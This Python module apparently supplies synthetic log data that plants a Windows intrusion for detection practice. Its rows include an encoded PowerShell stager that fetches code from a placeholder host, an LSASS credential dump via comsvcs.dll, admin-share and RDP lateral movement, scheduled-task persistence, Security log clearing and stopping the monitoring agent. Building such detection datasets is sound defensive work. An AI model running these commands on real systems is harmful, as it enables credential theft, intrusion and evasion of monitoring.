"""The planted intrusion, step by step."""

from __future__ import annotations

from dataclasses import dataclass

from kqlext.samples.data.programs import OFFICE, POWERSHELL, SYSTEM32


@dataclass(frozen=True)
class Step:
    """A process of the intrusion: a row in the process tables, below the latest `parent` on its host."""

    key: str
    parent: str
    time: str
    host: str
    account: str
    path: str
    command: str
    logon: int = 0  # zero: the parent's


VICTIM = "jlind"
VICTIM_HOST = "WS-FIN-02"
SERVER = "SRV-FILE01"
ADMINISTRATOR = "adm-rossi"
_REMOTE_LOGON = 0x5D1E7A4
SPRAY_ADDRESS = "203.0.113.57"
BEACON_ADDRESS = "198.51.100.23"
BEACON_URL = "telemetry.fabrikam-cdn.example"
# Time, host, account, source, logon type, logon id (zero: any).
PLANTED_LOGONS: tuple[tuple[str, str, str, str, int, int], ...] = (
    # Help desk, the day before: that is how the administrator's credentials came to the workstation.
    ("2024-03-12T15:10:22.118", VICTIM_HOST, ADMINISTRATOR, "SRV-DC01", 10, 0),
    ("2024-03-13T08:43:19.402", "SRV-RAS01", VICTIM, SPRAY_ADDRESS, 3, 0),
    ("2024-03-13T10:02:06.015", SERVER, ADMINISTRATOR, VICTIM_HOST, 3, 0),
    ("2024-03-13T10:21:14.660", SERVER, ADMINISTRATOR, VICTIM_HOST, 10, _REMOTE_LOGON),
)
SPRAY_START = "2024-03-13T08:02:11"
SPRAY_ROUNDS, SPRAY_ROUND_SECONDS, SPRAY_USER_SECONDS = 6, 420, 9
SPRAY_SUCCESS = "2024-03-13T08:43:17"
BEACON_START, BEACON_END = "2024-03-13T09:31:40", "2024-03-14T16:00:00"
BEACON_SECONDS, BEACON_JITTER_SECONDS = 300, 8
# The server's log agent stands still: no heartbeat, no SecurityEvent.
SILENCE_START, SILENCE_END = "2024-03-13T11:01:12", "2024-03-13T11:52:00"

# Decodes to: Invoke-RestMethod https://telemetry.fabrikam-cdn.example/u
STAGER_PAYLOAD = (
    "SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkACAAaAB0AHQAcABzADoALwAvAHQAZQBsAGUAbQBlAHQAcgB5AC4AZgBhAGIAcgBpAGsA"
    "YQBtAC0AYwBkAG4ALgBlAHgAYQBtAHAAbABlAC8AdQA="
)
# Key, parent, time, path, command.
_ON_VICTIM = (
    ("mail", "explorer", "09:27:12.402", OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"'),
    ("macro", "mail", "09:31:05.118", OFFICE + "WINWORD.EXE",
     f'"{OFFICE}WINWORD.EXE" /n "C:\\Users\\jlind\\AppData\\Local\\Microsoft\\Windows\\INetCache\\'
     'Content.Outlook\\7K2QX1\\Invoice_March.docm" /o ""'),
    ("stager", "macro", "09:31:22.640", SYSTEM32 + POWERSHELL, f"powershell.exe -nop -w hidden -enc {STAGER_PAYLOAD}"),
    ("who", "stager", "09:33:10.093", SYSTEM32 + "whoami.exe", "whoami /all"),
    ("group", "stager", "09:33:41.207", SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain'),
    ("group1", "group", "09:33:41.251", SYSTEM32 + "net1.exe", SYSTEM32 + 'net1 group "Domain Admins" /domain'),
    ("trust", "stager", "09:34:20.870", SYSTEM32 + "nltest.exe", "nltest /dclist:contoso.com"),
    ("view", "stager", "09:35:02.314", SYSTEM32 + "net.exe", "net view \\\\SRV-FILE01"),
    ("dump", "stager", "09:48:30.556", SYSTEM32 + "rundll32.exe",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\d.dmp full"),
    ("share", "stager", "10:02:05.771", SYSTEM32 + "net.exe", "net use \\\\SRV-FILE01\\C$ /user:CONTOSO\\adm-rossi"),
    ("desktop", "stager", "10:20:50.028", SYSTEM32 + "mstsc.exe", "mstsc.exe /v:SRV-FILE01"),
)  # fmt: skip
_ON_SERVER = (
    ("userinit2", "winlogon", "10:21:16.330", SYSTEM32 + "userinit.exe", SYSTEM32 + "userinit.exe"),
    ("explorer2", "userinit2", "10:21:18.004", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("shell", "explorer2", "10:24:02.911", SYSTEM32 + "cmd.exe", '"C:\\Windows\\System32\\cmd.exe"'),
    ("task", "shell", "10:26:37.145", SYSTEM32 + "schtasks.exe",
     'schtasks /create /tn "\\Microsoft\\Windows\\Maps\\CacheSync" /tr '
     '"powershell.exe -w hidden -File C:\\ProgramData\\sync.ps1" /sc hourly /ru SYSTEM /f'),
    ("clear", "shell", "10:58:44.602", SYSTEM32 + "wevtutil.exe", "wevtutil cl Security"),
    ("stop", "shell", "11:01:09.287", SYSTEM32 + "net.exe", "net stop HealthService"),
    ("stop1", "stop", "11:01:09.330", SYSTEM32 + "net1.exe", SYSTEM32 + "net1 stop HealthService"),
)  # fmt: skip
INTRUSION: tuple[Step, ...] = (
    *(Step(key, parent, f"2024-03-13T{time}", VICTIM_HOST, VICTIM, path, command)
      for key, parent, time, path, command in _ON_VICTIM),
    *(Step(key, parent, f"2024-03-13T{time}", SERVER, ADMINISTRATOR, path, command, _REMOTE_LOGON)
      for key, parent, time, path, command in _ON_SERVER),
    Step("sync", "schedule", "2024-03-13T12:26:37.410", SERVER, SERVER + "$", SYSTEM32 + POWERSHELL,
         "powershell.exe -w hidden -File C:\\ProgramData\\sync.ps1"),
)  # fmt: skip
